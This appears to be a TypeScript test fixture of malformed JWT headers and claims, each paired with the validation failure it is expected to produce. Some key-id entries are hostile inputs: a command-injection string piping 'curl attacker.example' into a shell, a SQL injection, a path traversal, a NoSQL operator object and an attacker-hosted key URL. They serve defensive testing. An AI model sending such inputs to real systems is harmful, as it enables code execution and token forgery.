import { type BadToken, bad } from './entry.ts';
import { claim, headed, paid, parameter } from './parts.ts';

const missing = { fails: ['token.alg.missing'], signature: 'malformed' } as const;
const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'prototype',
  'then',
  'toJSON',
];

export const header: readonly BadToken[] = [
  bad('The header is empty.', headed('{}'), missing),
  bad('There is no algorithm.', headed('{"typ":"JWT"}'), missing),
  bad('The algorithm is the empty text.', parameter('alg', '""'), { fails: ['token.alg.missing'] }),
  bad('The algorithm is null.', parameter('alg', 'null'), missing),
  bad('The algorithm is a number.', parameter('alg', '256'), missing),
  bad('The algorithm is a list.', parameter('alg', '["ES256"]'), missing),
  bad('The algorithm is an object.', parameter('alg', '{"name":"ES256"}'), missing),
  bad('The algorithm is true.', parameter('alg', 'true'), missing),
  bad('The name of the algorithm is written large.', headed('{"ALG":"ES256"}'), missing),
  bad('The algorithm stands under the name of all prototypes.', headed('{"__proto__":{"alg":"none"}}'), {
    ...missing,
    not: ['token.alg.none'],
  }),
  bad(
    'The header is inherited from a constructor.',
    headed('{"constructor":{"prototype":{"alg":"none"}}}'),
    missing,
  ),
  ...PROTOTYPE_NAMES.map((name) =>
    bad(
      `The algorithm is called ${name}, as something of every object is.`,
      parameter('alg', JSON.stringify(name)),
      {
        not: ['token.alg.missing', 'token.alg.none'],
        signature: 'no_keys',
      },
    ),
  ),
  ...PROTOTYPE_NAMES.map((name) =>
    bad(
      `A claim is called ${name}, and the others are still missing.`,
      paid(`{"${name}":{"iss":"https://login.example","exp":4000000000}}`),
      {
        fails: ['token.exp.missing', 'token.iss.missing'],
        as: 'jws',
      },
    ),
  ),
  ...PROTOTYPE_NAMES.slice(0, 5).map((name) =>
    bad(`The type is called ${name}.`, parameter('typ', JSON.stringify(name)), {
      as: 'jws',
      not: ['token.alg.missing'],
    }),
  ),
  bad('The key id is called __proto__.', parameter('kid', '"__proto__"'), {
    as: 'jws',
    signature: 'no_keys',
  }),
  bad('The key id is a number.', parameter('kid', '1'), { as: 'jws', signature: 'no_keys' }),
  bad('The key id is an object.', parameter('kid', '{"$ne":null}'), { as: 'jws', signature: 'no_keys' }),
  bad('The key id is a path.', parameter('kid', '"../../../../dev/null"'), {
    as: 'jws',
    signature: 'no_keys',
  }),
  bad('The key id is a query of a database.', parameter('kid', `"x' UNION SELECT 'key' --"`), {
    as: 'jws',
    signature: 'no_keys',
  }),
  bad('The key id is a command.', parameter('kid', '"k;curl attacker.example|sh"'), {
    as: 'jws',
    signature: 'no_keys',
  }),
  bad('The key id is an address.', parameter('kid', '"https://attacker.example/keys"'), {
    as: 'jws',
    signature: 'no_keys',
  }),
  bad('The key id is a megabyte long.', () => parameter('kid', `"${'k'.repeat(1_000_000)}"`), {
    fails: ['access_token.size.over_header_limit'],
    signature: 'no_keys',
  }),
  bad('The key id is empty.', parameter('kid', '""'), { as: 'jws', signature: 'no_keys' }),
  bad('The type is a number.', parameter('typ', '1'), {
    fails: ['access_token.typ.wrong'],
    kind: 'access_token',
  }),
  bad('The type is of something else.', parameter('typ', '"image/png"'), {
    fails: ['access_token.typ.wrong'],
  }),
  bad('There is no type.', headed('{"alg":"ES256","kid":"k1"}'), { fails: ['access_token.typ.missing'] }),
  bad('The type has a parameter.', parameter('typ', '"at+jwt; charset=utf-8"'), {
    fails: ['access_token.typ.wrong'],
  }),
  bad('The type is written in another case, which is allowed.', parameter('typ', '"APPLICATION/AT+JWT"'), {
    not: ['access_token.typ.wrong', 'access_token.typ.missing'],
    kind: 'access_token',
  }),
  bad(
    'A hundred thousand parameters stand in the header.',
    () => headed(`{"alg":"ES256",${Array.from({ length: 100_000 }, (_, at) => `"a${at}":1`).join(',')}}`),
    {
      as: 'jws',
      signature: 'no_keys',
    },
  ),
  bad('The scope is a list.', claim('scope', '["a","b"]'), { fails: ['access_token.scope.not_a_string'] }),
  bad('The audience is null.', claim('aud', 'null'), { fails: ['token.aud.malformed'] }),
  bad('The audience is an empty list.', claim('aud', '[]'), { fails: ['access_token.aud.missing'] }),
  bad('A list of audiences has a number in it.', claim('aud', '["a",1]'), { fails: ['token.aud.malformed'] }),
  bad('A list of audiences has a list in it.', claim('aud', '[["a"]]'), { fails: ['token.aud.malformed'] }),
  bad('The issuer is a list.', claim('iss', '["https://login.example"]'), { fails: ['token.iss.missing'] }),
  bad('The issuer is empty.', claim('iss', '""'), { fails: ['token.iss.missing'] }),
  bad('The subject is an object.', claim('sub', '{"toString":"alice"}'), {
    fails: ['access_token.sub.missing'],
  }),
  bad('The id is a number.', claim('jti', '1'), { fails: ['access_token.jti.missing'] }),
  bad('The id is one letter.', claim('jti', '"1"'), { fails: ['access_token.jti.short'] }),
  bad('What the token is bound to is a text.', claim('cnf', '"key"'), {
    fails: ['access_token.binding.malformed'],
  }),
  bad(
    'What the token is bound to is a thumbprint in hexadecimal.',
    claim('cnf', `{"jkt":"${'ab'.repeat(32)}"}`),
    {
      fails: ['access_token.binding.malformed'],
    },
  ),
  bad('What the token is bound to is a padded thumbprint.', claim('cnf', `{"jkt":"${'A'.repeat(43)}="}`), {
    fails: ['access_token.binding.malformed'],
  }),
];
